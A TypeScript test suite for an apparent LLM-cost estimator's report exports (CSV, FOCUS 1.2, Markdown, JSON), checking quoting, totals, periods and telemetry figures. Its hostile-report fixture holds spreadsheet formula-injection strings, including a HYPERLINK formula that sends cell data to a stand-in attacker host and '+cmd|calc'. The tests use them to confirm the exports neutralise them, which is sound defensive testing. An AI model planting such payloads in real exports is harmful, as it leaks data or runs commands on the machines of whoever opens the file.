import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { main, scan } from '../../src/cli/main';
import { decimal } from '../../src/core/report/csv';
import { CSV_COLUMNS, EXPORT_FORMATS, exportReport, FOCUS_COLUMNS, FOCUS_MANDATORY_COLUMNS, markdownSummary, toCsv, toFocusCsv, toMarkdown } from '../../src/core/report/export';
import { formatUsd } from '../../src/core/report/format';
import { renderTable } from '../../src/core/report/table';
import type { Report, ReportCallSite } from '../../src/core/report/report';

const root = path.join(__dirname, '../../..');
const examples = path.join(root, 'examples');

/** RFC 4180, strictly: CRLF between records, quotes only around whole fields, `""` inside them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        value += text[i++];
      }
    }
    row.push(value);
    if (text[i] === ',') {
      i++;
      if (i === text.length) row.push('');
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    if (i >= text.length) {
      rows.push(row);
      break;
    }
    throw new Error(`unexpected ${JSON.stringify(text[i])} after a field at ${i}`);
  }
  return rows;
}

/** Records as objects keyed by the header; every record must have the header's width. */
function records(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...rest] = parseCsv(text);
  for (const r of rest) assert.equal(r.length, header.length, `a record of ${r.length} fields under a header of ${header.length}: ${JSON.stringify(r)}`);
  return { header, rows: rest.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

const close = (actual: number, expected: number, what: string) => assert.ok(Math.abs(actual - expected) <= 1e-9 * Math.max(1, Math.abs(expected)), `${what}: ${actual} ≠ ${expected}`);

const leh = (expected: number, low = expected, high = expected) => ({ low, expected, high });

function site(over: Partial<ReportCallSite> & { key: string }): ReportCallSite {
  return {
    kind: 'code',
    path: 'agent.py',
    line: 1,
    provider: 'openai',
    api: 'chat.completions',
    model: 'gpt-4o',
    pricedModel: 'gpt-4o',
    tokens: { input: 1000, cachedInput: 0, cacheWrite: 0, output: 100, staticInput: 1000, dynamicInput: 0, cacheablePrefix: 0, inputRange: leh(1000), outputRange: leh(100) },
    exactTokens: true,
    tokenizer: 'o200k_base',
    outputCap: null,
    multiplier: { min: 1, expected: 1, max: 1, reason: 'one call per task' },
    historyGrows: false,
    usd: { perCall: leh(0.003), perCallNoCache: leh(0.003), perTask: leh(0.003), perMonth: leh(9, 3, 30) },
    pricesPerMtok: { input: 2, cachedInput: 1, cacheWrite5m: 2, cacheWrite1h: 2, output: 10 },
    contextWindow: 128000,
    assumptions: [],
    ...over,
  };
}

function report(callSites: ReportCallSite[], over: Partial<Report> = {}): Report {
  const priced = callSites.filter((c) => c.usd);
  const sum = (k: 'low' | 'expected' | 'high') => priced.reduce((s, c) => s + c.usd!.perMonth[k], 0);
  return {
    version: 1,
    generatedAt: '2026-11-22T15:00:00.000Z',
    tool: { name: 'costlens', version: '0.1.0' },
    traffic: { tasksPerDay: 100, daysPerMonth: 30 },
    budgets: { perCall: null, perTask: null, perMonth: null },
    totals: { callSites: callSites.length, files: new Set(callSites.map((c) => c.path)).size, usdPerMonth: { low: sum('low'), expected: sum('expected'), high: sum('high') }, unpricedCallSites: callSites.length - priced.length },
    callSites,
    tasks: [],
    findings: [],
    errors: [],
    ...over,
  };
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** Strings from the scanned code that a careless export would break or let run. */
function hostileReport(): Report {
  return report(
    [
      site({ key: HYPERLINK, path: 'a,b "c"\nd.py', name: 'x|y', model: '+cmd|calc', pricedModel: 'gpt-4o', api: '-2+3', line: 7 }),
      site({ key: '@SUM(1+1)', path: 'dir|x/evil\r\nfile.py', name: '`tick`', model: null, modelUnresolvedReason: 'a | b\nc', pricedModel: null, usd: null, pricesPerMtok: null, provider: 'unknown' }),
    ],
    {
      tasks: [{ key: 't', name: 'run|all\nnow', path: 'a,b "c"\nd.py', line: 5, steps: 1, historyGrows: false, callSites: [HYPERLINK], reason: 'one call per task', tasksPerDay: 100, usd: { perTask: leh(0.003), perMonth: leh(9, 3, 30) } }],
      findings: [{ ruleId: 'missing-output-cap', severity: 'warning', message: 'No cap | at all\nreally', path: 'p|q.py', line: 3, usdPerMonthAtStake: 12.5, fixes: [{ title: 'Add max_tokens | 256', safe: true }] }],
      errors: [{ path: 'bad|file.prompty', line: 2, kind: 'parse', message: 'front matter:\nunexpected | here' }],
    },
  );
}

describe('report exports', () => {
  let real: Report;
  before(async () => {
    real = await scan([examples], { cwd: root, cache: false });
    assert.ok(real.callSites.length >= 5 && real.callSites.some((c) => !c.usd) && real.callSites.some((c) => c.historyGrows), 'the examples have priced, unpriced and history-growing call sites');
  });

  describe('CSV', () => {
    it('writes a header and one CRLF-terminated record per call site of a real scan, values round-tripping', () => {
      const text = toCsv(real);
      assert.ok(text.endsWith('\r\n'));
      const { header, rows } = records(text);
      assert.deepEqual(header, [...CSV_COLUMNS]);
      assert.equal(rows.length, real.callSites.length);
      real.callSites.forEach((c, i) => {
        const r = rows[i];
        assert.equal(r.path, c.path);
        assert.equal(Number(r.line), c.line);
        assert.equal(r.key, c.key);
        assert.equal(r.model, c.model ?? '');
        assert.equal(r.priced_model, c.pricedModel ?? '');
        assert.equal(Number(r.input_tokens), c.tokens.input);
        assert.equal(Number(r.output_tokens), c.tokens.output);
        assert.equal(r.exact_tokens, String(c.exactTokens));
        assert.equal(Number(r.calls_per_task), c.multiplier.expected);
        if (c.usd) {
          close(Number(r.usd_per_call), c.usd.perCall.expected, 'usd_per_call');
          close(Number(r.usd_per_task_high), c.usd.perTask.high, 'usd_per_task_high');
          close(Number(r.usd_per_month_low), c.usd.perMonth.low, 'usd_per_month_low');
        } else assert.equal(r.usd_per_month, '', 'an unpriced call site has no dollars, not zero');
        const task = real.tasks.find((t) => t.callSites.includes(c.key));
        assert.equal(Number(r.tasks_per_day), task?.tasksPerDay ?? real.traffic.tasksPerDay);
      });
    });

    it('has monthly columns that add up to the report totals', () => {
      const { rows } = records(toCsv(real));
      for (const [col, k] of [['usd_per_month', 'expected'], ['usd_per_month_low', 'low'], ['usd_per_month_high', 'high']] as const) {
        close(rows.reduce((s, r) => s + (r[col] ? Number(r[col]) : 0), 0), real.totals.usdPerMonth[k], col);
      }
    });

    it('quotes commas, quotes and line breaks, and neutralises formulas with a leading quote', () => {
      const text = toCsv(hostileReport());
      const { rows } = records(text);
      assert.equal(rows.length, 2);
      assert.equal(rows[0].path, 'a,b "c"\nd.py');
      assert.equal(rows[0].key, `'${HYPERLINK}`);
      assert.equal(rows[0].model, "'+cmd|calc");
      assert.equal(rows[0].api, "'-2+3");
      assert.equal(rows[0].name, 'x|y');
      assert.equal(rows[1].key, "'@SUM(1+1)");
      assert.equal(rows[1].path, 'dir|x/evil\r\nfile.py');
      for (const r of rows) for (const v of Object.values(r)) assert.doesNotMatch(v, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${v}`);
      assert.ok(!text.includes(`,${HYPERLINK}`), 'the formula never starts a raw field');
      close(Number(rows[0].usd_per_month), 9, 'numbers stay numbers');
    });

    it('writes numbers as plain decimals, never with an exponent', () => {
      assert.equal(decimal(1e-7), '0.0000001');
      assert.equal(decimal(1.5e21), '1500000000000000000000');
      assert.equal(decimal(0.1 + 0.2), '0.3');
      assert.equal(decimal(-0), '0');
      assert.throws(() => decimal(Number.NaN), RangeError);
    });
  });

  describe('FOCUS 1.2', () => {
    const now = new Date('2026-12-15T12:00:00Z');

    it('has every column FOCUS 1.2 requires, the conditional ones that apply, and only x_ columns of its own', () => {
      const { header } = records(toFocusCsv(real, { now }));
      for (const c of FOCUS_MANDATORY_COLUMNS) assert.ok(header.includes(c), `missing mandatory column ${c}`);
      assert.equal(FOCUS_MANDATORY_COLUMNS.length, 21);
      for (const c of ['ConsumedQuantity', 'ConsumedUnit', 'ListUnitPrice', 'PricingCategory', 'ResourceId', 'ResourceName', 'SkuId', 'SkuPriceId', 'SkuMeter', 'Tags', 'ServiceSubcategory', 'ChargeFrequency', 'x_CallSiteKey', 'x_Path', 'x_Line', 'x_Model', 'x_Estimate']) {
        assert.ok(header.includes(c), `missing column ${c}`);
      }
      assert.equal(new Set(header).size, header.length, 'no duplicate columns');
      for (const c of header) assert.match(c, /^(x_[A-Za-z]+|[A-Z][A-Za-z]+)$/, `custom columns need the x_ prefix: ${c}`);
      assert.deepEqual(header, [...FOCUS_COLUMNS]);
    });

    it('projects a real scan: non-negative USD costs that add up to the report, ISO 8601 UTC periods, tokens as consumed quantity', () => {
      const { rows } = records(toFocusCsv(real, { now }));
      const priced = real.callSites.filter((c) => c.usd);
      assert.ok(rows.length >= 2 * priced.length, 'at least an input and an output row per priced call site');
      assert.deepEqual(new Set(rows.map((r) => r.x_CallSiteKey)), new Set(priced.map((c) => c.key)), 'a row for every priced call site and none for unpriced ones');
      const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/;
      for (const r of rows) {
        for (const c of ['BilledCost', 'EffectiveCost', 'ListCost', 'ContractedCost', 'ListUnitPrice', 'PricingQuantity', 'ConsumedQuantity']) assert.match(r[c], /^\d+(\.\d+)?$/, `${c} is a non-negative decimal: ${r[c]}`);
        assert.equal(r.EffectiveCost, r.BilledCost);
        assert.equal(r.ListCost, r.BilledCost);
        assert.equal(r.ContractedCost, r.BilledCost);
        close(Number(r.ListUnitPrice) * Number(r.PricingQuantity), Number(r.ListCost), 'ListUnitPrice × PricingQuantity = ListCost');
        close(Number(r.PricingQuantity) * 1e6, Number(r.ConsumedQuantity), 'PricingQuantity is in millions of tokens');
        assert.equal(r.PricingUnit, '1000000 Tokens');
        assert.equal(r.ConsumedUnit, 'Tokens');
        assert.equal(r.BillingCurrency, 'USD');
        assert.equal(r.ChargeCategory, 'Usage');
        assert.equal(r.ChargeClass, '', 'null: not a correction');
        assert.equal(r.ServiceCategory, 'AI and Machine Learning');
        assert.equal(r.x_Estimate, 'estimated');
        assert.match(r.ChargeDescription, /not billed usage/);
        for (const c of ['ChargePeriodStart', 'ChargePeriodEnd', 'BillingPeriodStart', 'BillingPeriodEnd']) assert.match(r[c], iso, c);
        assert.equal(r.ChargePeriodStart, '2026-12-01T00:00:00Z');
        assert.equal(r.ChargePeriodEnd, '2027-01-01T00:00:00Z');
        assert.ok(r.ProviderName && r.PublisherName && r.InvoiceIssuerName && r.ServiceName && r.BillingAccountId && r.BillingAccountName, 'mandatory names are not null');
        const tags = JSON.parse(r.Tags) as Record<string, unknown>;
        assert.equal(tags['costlens/path'], r.x_Path);
        assert.equal(tags['costlens/estimate'], true);
      }
      close(rows.reduce((s, r) => s + Number(r.BilledCost), 0), real.totals.usdPerMonth.expected, 'the rows add up to the report total');
      for (const c of priced) {
        const mine = rows.filter((r) => r.x_CallSiteKey === c.key);
        close(mine.reduce((s, r) => s + Number(r.EffectiveCost), 0), c.usd!.perMonth.expected, `${c.key} per month`);
        const output = mine.find((r) => r.x_TokenKind === 'output')!;
        const tasksPerDay = Number(output.x_TasksPerDay);
        close(Number(output.ConsumedQuantity), c.tokens.output * c.multiplier.expected * tasksPerDay * real.traffic.daysPerMonth, `${c.key} output tokens a month`);
      }
    });

    it('puts the history a growing agent loop resends into its input tokens', () => {
      // 4 steps, each resending 500 more tokens: 1000×4 + 500×(0+1+2+3) = 7,000 input tokens a task.
      const perTask = 0.003 * 4 + (500 * 6 * 2) / 1e6;
      const r = report([site({ key: 'loop', historyGrows: true, multiplier: { min: 4, expected: 4, max: 4, reason: 'range(4)' }, usd: { perCall: leh(0.003), perCallNoCache: leh(0.003), perTask: leh(perTask), perMonth: leh(perTask * 3000) } })]);
      const { rows } = records(toFocusCsv(r, { period: '2026-11' }));
      const input = rows.find((x) => x.x_TokenKind === 'input')!;
      const output = rows.find((x) => x.x_TokenKind === 'output')!;
      close(Number(input.ConsumedQuantity), 7000 * 3000, 'input tokens a month');
      close(Number(output.ConsumedQuantity), 400 * 3000, 'output tokens a month');
      close(Number(input.ListUnitPrice), 2, 'input price per million');
      close(Number(input.BilledCost) + Number(output.BilledCost), perTask * 3000, 'the month');
    });

    it('splits cached input and 1-hour cache writes into rows of their own at their prices', () => {
      const c = site({
        key: 'cached',
        provider: 'anthropic',
        model: 'claude-sonnet-4-5',
        pricedModel: 'claude-sonnet-4-5',
        tokens: { input: 3000, cachedInput: 1800, cacheWrite: 200, output: 500, staticInput: 3000, dynamicInput: 0, cacheablePrefix: 2000, inputRange: leh(3000), outputRange: leh(500) },
        pricesPerMtok: { input: 3, cachedInput: 0.3, cacheWrite5m: 3.75, cacheWrite1h: 6, output: 15 },
        assumptions: [{ text: '2000 prefix tokens cacheable (explicit caching, minimum 1024); 90% of calls assumed to hit the cache, the rest write it (1h TTL)' }],
        usd: { perCall: leh(0.01224), perCallNoCache: leh(0.0195), perTask: leh(0.01224), perMonth: leh(0.01224 * 3000) },
      });
      const { rows } = records(toFocusCsv(report([c]), { period: '2026-11' }));
      const by = Object.fromEntries(rows.map((r) => [r.x_TokenKind, r]));
      assert.deepEqual(Object.keys(by).sort(), ['cacheWrite', 'cachedInput', 'input', 'output']);
      close(Number(by.cacheWrite.ListUnitPrice), 6, 'the 1-hour write price');
      close(Number(by.cacheWrite.ConsumedQuantity), 200 * 3000, 'cache-write tokens');
      close(Number(by.cachedInput.BilledCost), (1800 * 3000 * 0.3) / 1e6, 'cached input');
      close(Number(by.input.ConsumedQuantity), 1000 * 3000, 'uncached input only');
      assert.equal(by.cachedInput.SkuMeter, 'Cached Input Tokens');
      assert.equal(by.cachedInput.SkuPriceId, 'anthropic/claude-sonnet-4-5/cached-input');
      assert.equal(by.output.ProviderName, 'Anthropic');
    });

    it('prices a batch-discounted call at what it was charged', () => {
      const r = report([site({ key: 'batch', usd: { perCall: leh(0.0015), perCallNoCache: leh(0.0015), perTask: leh(0.0015), perMonth: leh(4.5) }, assumptions: [{ text: 'priced through the batch API' }] })]);
      const { rows } = records(toFocusCsv(r, { period: '2026-11' }));
      close(Number(rows.find((x) => x.x_TokenKind === 'input')!.ListUnitPrice), 1, 'half the input price');
      close(Number(rows.find((x) => x.x_TokenKind === 'output')!.ListUnitPrice), 5, 'half the output price');
      close(rows.reduce((s, x) => s + Number(x.BilledCost), 0), 4.5, 'the month');
    });

    it('takes the period from the options, a month or explicit bounds, and rejects nonsense', () => {
      const first = (o: Parameters<typeof toFocusCsv>[1]) => records(toFocusCsv(report([site({ key: 'k' })]), o)).rows[0];
      assert.equal(first({ period: '2025-02' }).BillingPeriodStart, '2025-02-01T00:00:00Z');
      assert.equal(first({ period: '2025-02' }).BillingPeriodEnd, '2025-03-01T00:00:00Z');
      const explicit = first({ period: { start: '2025-06-10T00:00:00Z', end: new Date('2025-06-17T00:00:00Z') } });
      assert.equal(explicit.ChargePeriodStart, '2025-06-10T00:00:00Z');
      assert.equal(explicit.ChargePeriodEnd, '2025-06-17T00:00:00Z');
      const current = first({});
      const d = new Date();
      assert.equal(current.ChargePeriodStart, `${d.getUTCFullYear()}-${String(d.getUTCMonth() + 1).padStart(2, '0')}-01T00:00:00Z`, 'default: this month in UTC');
      assert.throws(() => toFocusCsv(report([]), { period: '2025-13' }), RangeError);
      assert.throws(() => toFocusCsv(report([]), { period: { start: '2025-02-01', end: '2025-01-01' } }), RangeError);
    });

    it('keeps hostile strings intact and harmless', () => {
      const { rows } = records(toFocusCsv(hostileReport(), { now }));
      assert.equal(rows.length, 2, 'the unpriced call site has no rows');
      for (const r of rows) {
        assert.equal(r.x_CallSiteKey, `'${HYPERLINK}`);
        assert.equal(r.x_Path, 'a,b "c"\nd.py');
        assert.equal(r.x_Model, "'+cmd|calc");
        assert.equal((JSON.parse(r.Tags) as Record<string, string>)['costlens/path'], 'a,b "c"\nd.py');
        for (const v of Object.values(r)) assert.doesNotMatch(v, /^[=+\-@]/);
      }
    });
  });

  describe('Markdown', () => {
    it('opens with the summary line: total, range, call sites, files and traffic', () => {
      const md = toMarkdown(real);
      const first = md.split('\n')[0];
      const t = real.totals;
      assert.equal(first, markdownSummary(real));
      assert.ok(first.startsWith(`**CostLens estimate: ${formatUsd(t.usdPerMonth.expected)} a month** expected (${formatUsd(t.usdPerMonth.low)}–${formatUsd(t.usdPerMonth.high)})`), first);
      assert.ok(first.includes(`${t.callSites} LLM call sites in ${t.files} files`), first);
      assert.ok(first.includes(`${real.traffic.tasksPerDay.toLocaleString('en-US')} tasks a day × ${real.traffic.daysPerMonth} days`), first);
      assert.ok(first.includes(`${t.unpricedCallSites} call site${t.unpricedCallSites === 1 ? '' : 's'} without a price`), first);
      assert.equal(markdownSummary(report([])), '**CostLens: no LLM calls or prompt files found.**');
    });

    it('lists tasks and call sites by dollars a month, findings with their stakes and fixes, unpriced call sites', () => {
      const md = toMarkdown(real);
      const section = (title: string) => md.split(`### ${title}\n`)[1]?.split('\n### ')[0] ?? assert.fail(`no "${title}" section`);
      const siteRows = section('Most expensive call sites').split('\n').filter((l) => l.startsWith('| `'));
      const sorted = real.callSites.filter((c) => c.usd).sort((a, b) => b.usd!.perMonth.expected - a.usd!.perMonth.expected);
      assert.ok(siteRows[0].startsWith(`| \`${sorted[0].path}:${sorted[0].line}\``), siteRows[0]);
      assert.ok(siteRows.at(-1)!.startsWith(`| \`${sorted.at(-1)!.path}:${sorted.at(-1)!.line}\``), siteRows.at(-1));
      const taskRows = section('Most expensive tasks').split('\n').filter((l) => l.startsWith('| `'));
      const topTask = [...real.tasks].sort((a, b) => (b.usd?.perMonth.expected ?? -1) - (a.usd?.perMonth.expected ?? -1))[0];
      assert.ok(taskRows[0].startsWith(`| \`${topTask.name}\``), taskRows[0]);
      const findings = section('Findings');
      const biggest = [...real.findings].sort((a, b) => (b.usdPerMonthAtStake ?? -1) - (a.usdPerMonthAtStake ?? -1))[0];
      assert.ok(findings.split('\n').find((l) => /^\| \$\d/.test(l))!.startsWith(`| ${formatUsd(biggest.usdPerMonthAtStake!)} |`));
      const fixed = real.findings.find((f) => f.fixes.length)!;
      assert.ok(findings.includes(fixed.fixes[0].title), 'fix titles are listed');
      const unpriced = section('Call sites without a price');
      for (const c of real.callSites.filter((x) => !x.usd)) assert.ok(unpriced.includes(`\`${c.path}:${c.line}\``), c.key);
    });

    it('keeps tables to the top N and says how many more there are', () => {
      const md = toMarkdown(real, { top: 2 });
      const section = md.split('### Most expensive call sites\n')[1].split('\n### ')[0];
      assert.equal(section.split('\n').filter((l) => l.startsWith('| `')).length, 2);
      assert.ok(section.includes(`…and ${real.callSites.filter((c) => c.usd).length - 2} more call sites.`));
    });

    it('escapes | and line breaks so hostile strings cannot break a table', () => {
      const md = toMarkdown(hostileReport());
      const cells = (line: string) => line.slice(1, -1).split(/(?<!\\)\|/);
      let header: string[] | undefined;
      for (const line of md.split('\n')) {
        if (!line.startsWith('|')) {
          header = undefined;
          continue;
        }
        assert.ok(line.endsWith(' |'), `a table row ends on its line: ${line}`);
        if (!header) header = cells(line);
        else assert.equal(cells(line).length, header.length, `row width: ${line}`);
      }
      assert.ok(md.includes('`run\\|all\\nnow`'), 'a task name: pipe escaped, line break written as an escape');
      assert.ok(md.includes('No cap \\| at all<br>really'), 'a message: pipe escaped, line break as <br>');
      assert.ok(md.includes('unexpected \\| here'), 'an error message');
      assert.ok(md.includes('`dir\\|x/evil\\r\\nfile.py:1`'), 'a path: pipe escaped, CRLF written as escapes');
      assert.ok(md.includes('? (a \\| b<br>c)'), 'an unresolved-model reason');
      assert.ok(md.includes('Add max\\_tokens \\| 256 (safe)'), 'a fix title');
      assert.ok(md.includes(formatUsd(12.5)), 'the dollars at stake');
    });
  });

  describe('exportReport and the CLI', () => {
    it('dispatches every format; json is the report exactly as scan --format json prints it', () => {
      assert.deepEqual([...EXPORT_FORMATS], ['json', 'csv', 'markdown', 'focus']);
      assert.equal(exportReport(real, 'json'), JSON.stringify(real, null, 2) + '\n');
      assert.equal(exportReport(real, 'csv'), toCsv(real));
      assert.equal(exportReport(real, 'markdown', { top: 3 }), toMarkdown(real, { top: 3 }));
      assert.equal(exportReport(real, 'focus', { period: '2026-01' }), toFocusCsv(real, { period: '2026-01' }));
    });

    it('costlens scan --format csv|markdown|focus prints the exports; an unknown format lists the formats', async () => {
      const run = async (args: string[]) => {
        let stdout = '';
        let stderr = '';
        const code = await main(args, { cwd: root, stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
        return { code, stdout, stderr };
      };
      const csv = await run(['scan', 'examples', '--format', 'csv', '--no-cache']);
      assert.equal(csv.code, 0, csv.stderr);
      assert.equal(records(csv.stdout).rows.length, real.callSites.length);
      const focus = await run(['scan', 'examples', '--format', 'focus', '--no-cache']);
      assert.equal(focus.code, 0, focus.stderr);
      close(records(focus.stdout).rows.reduce((s, r) => s + Number(r.BilledCost), 0), real.totals.usdPerMonth.expected, 'FOCUS total from the CLI');
      const md = await run(['scan', 'examples', '-f', 'markdown', '--no-cache']);
      assert.equal(md.code, 0, md.stderr);
      assert.ok(md.stdout.startsWith('**CostLens estimate: '), md.stdout.slice(0, 80));
      const bad = await run(['scan', 'examples', '--format', 'xlsx', '--no-cache']);
      assert.equal(bad.code, 2);
      assert.match(bad.stderr, /unknown --format "xlsx" \(use table, json, csv, markdown, focus\)/);
      const help = await run(['--help']);
      assert.match(help.stdout, /--format table\|json\|csv\|markdown\|focus/);
    });
  });

  describe('figures that are not numbers', () => {
    it('an Infinity or NaN figure leaves its CSV cell empty and its call site out of FOCUS (as an unpriced one), and crashes no format', () => {
      const inf = site({ key: 'inf', line: 2, usd: { perCall: leh(0.003), perCallNoCache: leh(0.003), perTask: leh(0.003), perMonth: leh(Infinity, 3, Infinity) } });
      const nan = site({ key: 'nan', line: 3, multiplier: { min: 1, expected: NaN, max: 1, reason: 'x' } });
      const r = report([site({ key: 'ok' }), inf, nan], { traffic: { tasksPerDay: 100, daysPerMonth: 30 } });
      const csv = records(toCsv(r)).rows;
      assert.deepEqual(csv.map((row) => [row.key, row.usd_per_month, row.usd_per_month_low, row.calls_per_task]), [
        ['ok', '9', '3', '1'],
        ['inf', '', '3', '1'],
        ['nan', '9', '3', ''],
      ]);
      const focus = records(toFocusCsv(r, { period: '2026-01' })).rows;
      assert.deepEqual([...new Set(focus.map((row) => row.x_CallSiteKey))], ['ok']);
      for (const text of [toMarkdown(r), renderTable(r)]) assert.doesNotMatch(text, /Infinity|NaN/);
    });

    it('costlens scan with tasksPerDay 1e308 in .costlens.json: the setting is refused, named with its bound on stderr, and csv and focus export finite figures', async () => {
      const dir = mkdtempSync(path.join(tmpdir(), 'costlens-huge-'));
      try {
        writeFileSync(path.join(dir, '.costlens.json'), '{"traffic":{"tasksPerDay":1e308}}');
        writeFileSync(path.join(dir, 'agent.py'), 'from openai import OpenAI\nclient = OpenAI()\nclient.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "hi"}], max_tokens=20)\n');
        for (const format of ['csv', 'focus']) {
          let stdout = '';
          let stderr = '';
          const code = await main(['scan', '--format', format, '--no-cache'], { cwd: dir, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
          assert.equal(code, 0, stderr);
          assert.match(stderr, /\.costlens\.json: traffic\.tasksPerDay is invalid and was ignored \(the default applies\): must be at most 1,000,000,000,000 \(tasks a day\)/);
          const rows = records(stdout).rows;
          assert.equal(rows.length, format === 'csv' ? 1 : 2, stdout);
          const figure = format === 'csv' ? rows[0].usd_per_month : rows[0].BilledCost;
          assert.ok(Number.isFinite(Number(figure)) && Number(figure) > 0, figure);
          assert.equal(format === 'csv' ? rows[0].tasks_per_day : rows[0].x_TasksPerDay, '1000');
        }
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });

  describe('observed figures', () => {
    it('what telemetry saw shows in every format, not only JSON: table, Markdown, CSV (columns added at the end) and FOCUS', async () => {
      const dir = mkdtempSync(path.join(tmpdir(), 'costlens-observed-'));
      try {
        writeFileSync(path.join(dir, '.costlens.json'), '{}');
        writeFileSync(path.join(dir, 'agent.py'), 'from openai import OpenAI\nclient = OpenAI()\n\ndef ask(q):\n    return client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": q}], max_tokens=20)\n\ndef other(q):\n    return client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": q}], max_tokens=20)\n');
        // Three calls of `ask` an hour apart: 1,000 tokens in (200 of them cached), 50 out.
        const span = (i: number) => ({
          traceId: (i + 1).toString(16).padStart(32, '0'),
          spanId: (i + 1).toString(16).padStart(16, '0'),
          name: 'chat gpt-4o',
          startTimeUnixNano: String(1_700_000_000_000_000_000n + BigInt(i) * 3_600_000_000_000n),
          endTimeUnixNano: String(1_700_000_001_000_000_000n + BigInt(i) * 3_600_000_000_000n),
          attributes: [
            ['gen_ai.operation.name', { stringValue: 'chat' }],
            ['gen_ai.request.model', { stringValue: 'gpt-4o' }],
            ['gen_ai.provider.name', { stringValue: 'openai' }],
            ['gen_ai.usage.input_tokens', { intValue: '1000' }],
            ['gen_ai.usage.cache_read.input_tokens', { intValue: '200' }],
            ['gen_ai.usage.output_tokens', { intValue: '50' }],
            ['code.file.path', { stringValue: 'agent.py' }],
            ['code.line.number', { intValue: '5' }],
          ].map(([key, value]) => ({ key, value })),
        });
        writeFileSync(path.join(dir, 'spans.jsonl'), [0, 1, 2].map((i) => JSON.stringify({ resourceSpans: [{ scopeSpans: [{ spans: [span(i)] }] }] })).join('\n') + '\n');
        const run = async (args: string[]) => {
          let stdout = '';
          let stderr = '';
          const code = await main(args, { cwd: dir, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
          assert.equal(code, 0, stderr);
          return stdout;
        };
        await run(['import', 'spans.jsonl']);
        const json = JSON.parse(await run(['scan', '--format', 'json', '--no-cache'])) as Report;
        const ask = json.callSites.find((c) => c.line === 5)!;
        const o = ask.observed!;
        assert.equal(o.calls, 3);
        assert.equal(o.inputTokens.mean, 1000);
        assert.ok(o.usdPerCall && o.usdPerCall.mean > 0 && o.usdPerMonth! > 0);
        assert.equal(json.callSites.find((c) => c.line === 8)!.observed, null);

        const csv = records(await run(['scan', '--format', 'csv', '--no-cache']));
        assert.deepEqual(csv.header.slice(0, 26), CSV_COLUMNS.slice(0, 26), 'the columns before keep their places');
        assert.deepEqual(csv.header.slice(26), ['observed_calls', 'observed_calls_per_day', 'observed_input_tokens_mean', 'observed_cached_input_tokens_mean', 'observed_output_tokens_mean', 'observed_usd_per_call_mean', 'observed_usd_per_month']);
        const askRow = csv.rows.find((r) => r.line === '5')!;
        assert.equal(askRow.observed_calls, '3');
        assert.equal(Number(askRow.observed_input_tokens_mean), 1000);
        assert.equal(Number(askRow.observed_cached_input_tokens_mean), 200);
        assert.equal(Number(askRow.observed_output_tokens_mean), 50);
        close(Number(askRow.observed_usd_per_call_mean), o.usdPerCall!.mean, 'observed $ per call');
        close(Number(askRow.observed_usd_per_month), o.usdPerMonth!, 'observed $ per month');
        close(Number(askRow.observed_calls_per_day), o.callsPerDay, 'observed calls per day');
        assert.equal(csv.rows.find((r) => r.line === '8')!.observed_calls, '', 'nothing seen: empty');

        const focus = records(await run(['scan', '--format', 'focus', '--no-cache'])).rows.filter((r) => r.x_Line === '5');
        assert.ok(focus.length >= 2 && focus.every((r) => r.x_ObservedCalls === '3'));
        close(Number(focus[0].x_ObservedUsdPerCall), o.usdPerCall!.mean, 'FOCUS observed $ per call');

        const usd = (n: number) => formatUsd(n).replace(/[$.]/g, (c) => `\\${c}`);
        const table = await run(['scan', '--no-cache']);
        assert.match(table, /Seen\s+Seen in\/out\s+Seen \$\/call/);
        assert.match(table, new RegExp(`^agent\\.py:5 .* 3 +1\\.0k/50 +${usd(o.usdPerCall!.mean)}$`, 'm'));
        assert.match(table, new RegExp(`Seen by telemetry: 3 call\\(s\\), 3 matched to 1 call site\\(s\\); for those call sites ${usd(o.usdPerMonth!)}/month observed`));

        const md = await run(['scan', '--format', 'markdown', '--no-cache']);
        assert.match(md, /### Observed by telemetry/);
        assert.match(md, new RegExp(`\\| \`agent\\.py:5\` \\| \`gpt-4o\` \\| 3 \\| [^|]+ \\| 1\\.0k / 50 \\| ${usd(o.usdPerCall!.mean)} \\| [^|]+ \\| ${usd(o.usdPerMonth!)} \\|`));

        // Without a store nothing changes: no observed columns filled, no extra table columns.
        const plain = await run(['scan', '--no-cache', '--no-observations']);
        assert.doesNotMatch(plain, /Seen/);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  });
});
